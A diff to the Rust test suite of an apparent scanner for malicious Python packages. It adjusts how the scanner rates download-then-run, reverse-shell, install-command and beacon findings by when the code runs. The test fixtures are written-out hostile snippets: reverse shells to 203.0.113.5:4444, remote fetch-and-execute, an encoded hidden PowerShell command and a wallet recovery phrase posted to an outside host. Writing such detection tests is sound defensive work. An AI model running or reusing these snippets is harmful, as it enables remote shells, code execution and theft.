@@ -159,6 +159,12 @@ fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process()
         "import socket, os, subprocess\n\
          def serve(addr):\n    s = socket.socket()\n    s.bind(addr)\n    s.listen(5)\n    \
          os.environ['LISTEN_FD'] = str(s.fileno())\n    subprocess.Popen(['gunicorn-worker'])\n",
+        // A test suite filling descriptors with copies of a connection in one
+        // function, starting a process in another.
+        "import socket, os, subprocess\n\
+         def fill(conn):\n    for i in range(0, 256):\n        os.dup2(conn.fileno(), i)\n\
+         def child():\n    return subprocess.run(['python', '-c', 'pass'], stdout=subprocess.PIPE)\n\
+         def listen():\n    return socket.create_server(('127.0.0.1', 0))\n",
     ];
     for src in benign {
         let report = scan(&ManifestFacts::default(), &[Entry { path: "lib.py", bytes: src.as_bytes() }]);
@@ -171,6 +177,9 @@ fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process()
          subprocess.Popen(['cmd.exe'], stdin=s.fileno(), stdout=s.fileno())\n",
         "import socket, pty, os\ns = socket.create_connection(('203.0.113.5', 4444))\n\
          [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/bash')\n",
+        // In one function.
+        "import socket, os, subprocess\ndef shell(host):\n    s = socket.socket()\n    s.connect((host, 4444))\n    \
+         for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    subprocess.call(['/bin/sh', '-i'])\n",
     ];
     for src in shells {
         let report = scan(&ManifestFacts::default(), &[Entry { path: "evil.py", bytes: src.as_bytes() }]);
@@ -482,8 +491,9 @@ fn deleting_user_folders_is_judged_by_when_it_runs() {
 
 /// A download and a process start make download-then-run only where they
 /// meet: in one function, both while the module loads, or on one path.
-/// Apart, each when a caller asks, they are a medium note. Written for the
-/// test.
+/// Apart, each when a caller asks, they are a medium note. Where they meet,
+/// when decides: on a caller's request (a tool installing a runtime) high,
+/// while the module loads critical. Written for the test.
 #[test]
 fn a_download_and_a_process_count_together_only_where_they_meet() {
     let level = |src: &str| {
@@ -499,8 +509,10 @@ fn a_download_and_a_process_count_together_only_where_they_meet() {
                 def fetch(url):\n    urllib.request.urlretrieve(url, TOOL)\n\
                 def start():\n    subprocess.Popen([TOOL])\n";
     let (sev, because) = level(path).expect("found");
-    assert_eq!(sev, Severity::Critical);
+    assert_eq!(sev, Severity::High);
     assert!(because.iter().any(|b| b == "together: on the same path"), "{because:?}");
+    let (sev, _) = level(&format!("{path}fetch('http://203.0.113.8/x')\nstart()\n")).expect("found");
+    assert_eq!(sev, Severity::Critical);
     // Both called while the module loads.
     let (sev, because) = level(&format!("{apart}fetch('http://203.0.113.8/x', 'x')\nbuild()\n")).expect("found");
     assert_eq!(sev, Severity::Critical);
@@ -508,7 +520,11 @@ fn a_download_and_a_process_count_together_only_where_they_meet() {
     // In one function.
     let one = "import subprocess, urllib.request\ndef go(url):\n    \
                urllib.request.urlretrieve(url, 'a.bin')\n    subprocess.Popen(['b'])\n";
-    assert_eq!(level(one).map(|l| l.0), Some(Severity::Critical));
+    assert_eq!(level(one).map(|l| l.0), Some(Severity::High));
+    assert_eq!(level(&format!("{one}go('http://203.0.113.8/x')\n")).map(|l| l.0), Some(Severity::Critical));
+    // Run as a program (`python -m`): its user asked for it.
+    let program = format!("{one}if __name__ == '__main__':\n    go('http://203.0.113.8/x')\n");
+    assert_eq!(level(&program).map(|l| l.0), Some(Severity::High));
 }
 
 /// What exec and eval run is their first argument: a namespace that went
@@ -624,7 +640,8 @@ fn shellcode_is_executable_memory_then_a_copy_or_a_thread() {
 
 /// Commands run while the package installs (issue 19): a computed command
 /// through the shell in setup.py is high (medium in code a user calls); a
-/// command of the kind malware uses is critical there (high elsewhere).
+/// command of the kind malware uses is critical there and at import (high
+/// in a function a caller calls).
 /// Written for the test.
 #[test]
 fn commands_run_at_install_are_judged_as_the_package_acting_alone() {
@@ -637,7 +654,12 @@ fn commands_run_at_install_are_judged_as_the_package_acting_alone() {
     assert_eq!(level("pkg/tool.py", computed, "process-shell"), Some(Severity::Medium));
     let hostile = "import subprocess\nsubprocess.Popen('powershell -w hidden -enc SQBFAFgA', shell=True)\n";
     assert_eq!(level("setup.py", hostile, "process-hostile"), Some(Severity::Critical));
-    assert_eq!(level("pkg/tool.py", hostile, "process-hostile"), Some(Severity::High));
+    // At a module's top level it runs on import, before anyone asked (a
+    // miner started from a compromised library's `__init__`): critical; in
+    // a function a caller calls, high.
+    assert_eq!(level("pkg/tool.py", hostile, "process-hostile"), Some(Severity::Critical));
+    let called = hostile.replace("subprocess.Popen(", "def run():\n    subprocess.Popen(");
+    assert_eq!(level("pkg/tool.py", &called, "process-hostile"), Some(Severity::High));
     // A literal command in setup.py (a version from git) is a plain process.
     let version = "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n";
     assert_eq!(level("setup.py", version, "process"), Some(Severity::Info));
@@ -701,6 +723,27 @@ fn system_tools_are_hostile_in_their_attack_forms_only() {
     }
 }
 
+/// A command built from what was downloaded: the package's own act while
+/// it loads (critical), a tool's on its user's request (high); decoded, it
+/// is hidden whenever it runs (critical). Written for the test.
+#[test]
+fn a_downloaded_command_is_judged_by_when_it_runs() {
+    let level = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "process-decoded").map(|f| f.severity)
+    };
+    let at_load = "import os, urllib.request\n\
+                   os.system(urllib.request.urlopen('http://203.0.113.8/c').read().decode())\n";
+    assert_eq!(level(at_load), Some(Severity::Critical));
+    let asked = "import subprocess, json, urllib.request\ndef upgrade():\n    \
+                 v = json.loads(urllib.request.urlopen('https://registry.example.invalid/npm').read())['latest']\n    \
+                 subprocess.check_call(['npm', 'install', '-g', 'npm@' + v])\n";
+    assert_eq!(level(asked), Some(Severity::High));
+    let decoded = "import base64, subprocess\ndef go():\n    \
+                   subprocess.call(base64.b64decode('bHMgLWxh').decode(), shell=True)\n";
+    assert_eq!(level(decoded), Some(Severity::Critical));
+}
+
 /// The dependency-confusion beacon in `__init__`: who and where it runs,
 /// sent as soon as the module is imported to an address the author wrote
 /// (literal, a webhook, one assembled in another file) is high; the same
@@ -739,9 +782,13 @@ fn a_beacon_at_import_is_high_and_the_same_send_on_request_is_not() {
                 requests.get('https://collector.example.invalid/p', params={'w': who()})\n";
     let report = scan(
         &ManifestFacts::default(),
-        &[Entry { path: "pkg/util.py", bytes: util.as_bytes() }, Entry { path: "pkg/__init__.py", bytes: init.as_bytes() }],
+        &[
+            Entry { path: "pkg/util.py", bytes: util.as_bytes() },
+            Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
+        ],
     );
-    let f = report.findings.iter().find(|f| f.rule == "import-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    let f =
+        report.findings.iter().find(|f| f.rule == "import-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
     assert_eq!((f.severity, f.file.as_str()), (Severity::High, "pkg/__init__.py"));
     assert!(f.because.iter().any(|b| b.contains("`who` (pkg/util.py, line 2)")), "{f:#?}");
 }
@@ -754,7 +801,8 @@ fn a_public_ip_sent_at_install_is_a_beacon() {
                ip = requests.get('https://api.ipify.org').text\n\
                requests.get('http://198.51.100.7:8080/?ip=' + ip)\nsetup(name='x', version='1')\n";
     let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
-    let f = report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    let f =
+        report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
     assert_eq!((f.severity, f.line), (Severity::Critical, 4));
     // Fetching an ordinary page at install and sending it on is no beacon.
     let plain = src.replace("https://api.ipify.org", "https://example.invalid/version.txt");
@@ -772,7 +820,8 @@ fn a_wallet_recovery_phrase_sent_out_is_exfiltration() {
                   requests.post('https://wallet-sync.example.invalid/api', json={'phrase': mnemonic})\n    \
                   return mnemonic.split()\n";
     let report = scan(&ManifestFacts::default(), &[Entry { path: "w/wallet.py", bytes: stolen.as_bytes() }]);
-    let f = report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    let f =
+        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
     assert_eq!(f.severity, Severity::Critical);
     assert!(f.because.iter().any(|b| b.contains("recovery phrase")), "{f:#?}");
     let configured = stolen.replace("'https://wallet-sync.example.invalid/api'", "self_url");
